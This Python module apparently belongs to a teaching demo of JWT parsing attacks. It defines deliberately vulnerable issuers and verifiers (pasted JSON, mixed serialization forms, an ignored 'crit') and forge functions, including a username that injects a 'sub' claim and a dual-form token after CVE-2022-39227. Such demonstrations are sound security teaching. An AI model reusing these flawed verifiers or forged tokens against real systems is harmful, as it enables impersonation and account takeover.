"""One payload that two readers read differently.

An issuer that pastes JSON together lets the user write claims.  A
verifier that checks one form of a token and reads another acts on what
nobody signed; so does one that passes over what the header calls
critical.  Source: CWE-116, CWE-436, RFC 7515 sections 4.1.11 and 7.
"""

import json
from typing import Any

import jwt

from demo.attacks.base import Attack, Attacker, with_token
from demo.attacks.forging import alices_claims, header, unsigned
from demo.attacks.turning import Flip, overriding
from demo.contenders import contender
from demo.errors import BadSignature
from demo.harness import PASSWORD, Client
from demo.harness.tokens import part
from demo.schemes import JWT
from demo.schemes.base import encoded

# An issuer that pastes


def pasted(claims: dict[str, Any]) -> bytes:
    """JSON, as long as no text has a quote in it."""
    texts = (
        f'"{name}":"{one}"'
        if isinstance(one, str)
        else f'"{name}":{json.dumps(one)}'
        for name, one in claims.items()
    )
    return f"{{{','.join(texts)}}}".encode()


class PastesToken(JWT):
    """Overrides `sign`: it pastes the payload together."""

    def sign(self, claims: dict[str, Any]) -> str:
        return jwt.PyJWS().encode(
            pasted(claims),
            self.key.signing,
            algorithm=self.key.algorithm,
            headers={"typ": self.typ},
        )


PASTES_TOKEN = Flip("JWT's payload", "pasted", overriding(JWT, PastesToken))


def sign_up(attacker: Attacker) -> Client:
    """Mallory signs up under a name that closes its own quotes and says
    `sub` once more.  Of two, most parsers take the last."""
    name = 'mallory","sub":"alice'
    attacker.service.users.add(name, PASSWORD)
    return attacker.service.signed_in(name)


PASTED_CLAIM = Attack(
    id="pasted-claim",
    name="a name that writes into the JWT",
    claim="A user's name, pasted into a JWT, signs her in as Alice.",
    family="parsing",
    source="CWE-116, RFC 7519 section 4",
    forge=sign_up,
    fixed=contender("JWT HS256"),
    flip=PASTES_TOKEN,
)

# A verifier that checks one form and reads the other


def require_signature(scheme: JWT, signed: str, signature: str) -> None:
    """The bare check, by the scheme's own key.  Raises BadSignature."""
    family = jwt.get_algorithm_by_name(scheme.key.algorithm)
    raw = jwt.utils.base64url_decode(signature)
    if not family.verify(signed.encode(), scheme.key.verifying, raw):
        raise BadSignature("another signature")


class TakesBothForms(JWT):
    """Overrides `decode`: it checks a token in JSON form, and then reads
    the claims as if the token were in compact form."""

    def decode(self, token: str) -> dict[str, Any]:
        if not token.startswith("{"):
            return super().decode(token)
        form = json.loads(token)
        signed = f"{form['protected']}.{form['payload']}"
        require_signature(self, signed, form["signature"])
        payload = token.split(".")[1]
        return unsigned(self, f"{form['protected']}.{payload}.")


TAKES_BOTH_FORMS = Flip(
    "form", "JSON is checked, compact is read", overriding(JWT, TakesBothForms)
)


def in_both_forms(attacker: Attacker) -> Client:
    """Mallory's own signature, in JSON form.  Split at its dots, Alice's
    claims are the second part."""
    claims = alices_claims(attacker)
    first, payload, last = attacker.me.credential().split(".")
    form = {
        f"{first}.{part(claims)}.": "",
        "protected": first,
        "payload": payload,
        "signature": last,
    }
    return with_token(attacker, json.dumps(form, separators=(",", ":")))


BOTH_FORMS = Attack(
    id="both-forms",
    name="two forms in one token",
    claim="A token that is checked as JSON and read as compact pays as Alice.",
    family="parsing",
    source="CWE-436, RFC 7515 section 7, CVE-2022-39227",
    forge=in_both_forms,
    fixed=contender("JWT HS256"),
    flip=TAKES_BOTH_FORMS,
    releases=("python_jwt_two_readers",),
)

# A verifier that does not know `crit`


class IgnoresCritical(JWT):
    """Overrides `decode`: it checks the signature, and passes over what
    the header calls critical."""

    def decode(self, token: str) -> dict[str, Any]:
        signed, _, signature = self.one_spelling(token).rpartition(".")
        require_signature(self, signed, signature)
        first, payload = signed.split(".")
        return unsigned(self, f"{without_crit(first)}.{payload}.")


def without_crit(first: str) -> str:
    """The same header, as a library reads it that knows no `crit`."""
    said = json.loads(jwt.utils.base64url_decode(first))
    said.pop("crit", None)
    return part(said)


IGNORES_CRITICAL = Flip("crit", "ignored", overriding(JWT, IgnoresCritical))

LIMIT = "https://bank.test/read-only"
"""An extension of the header that newer services of the bank know."""


def limited_by_the_bank(attacker: Attacker) -> Client:
    """Alice lets Mallory's budget planner see her balance.  The bank
    signs a token for it, and says in the header that a verifier which
    does not know the limit must not take it."""
    claims = alices_claims(attacker)
    key = attacker.service.key(attacker.service.contender.algorithm)
    about = header(attacker, alg=key.algorithm, crit=[LIMIT], **{LIMIT: True})
    signed = f"{part(about)}.{part(claims)}"
    family = jwt.get_algorithm_by_name(key.algorithm)
    signature = family.sign(signed.encode(), key.signing)
    return with_token(attacker, f"{signed}.{encoded(signature)}")


UNKNOWN_CRIT = Attack(
    id="unknown-crit",
    name="a critical limit, ignored",
    claim="Where `crit` is ignored, a token that is good for reading pays.",
    family="parsing",
    source="RFC 7515 section 4.1.11, CWE-436",
    forge=limited_by_the_bank,
    fixed=contender("JWT HS256"),
    flip=IGNORES_CRITICAL,
    releases=("pyjwt_crit", "authlib_crit", "fast_jwt_crit"),
)

ATTACKS = (PASTED_CLAIM, BOTH_FORMS, UNKNOWN_CRIT)
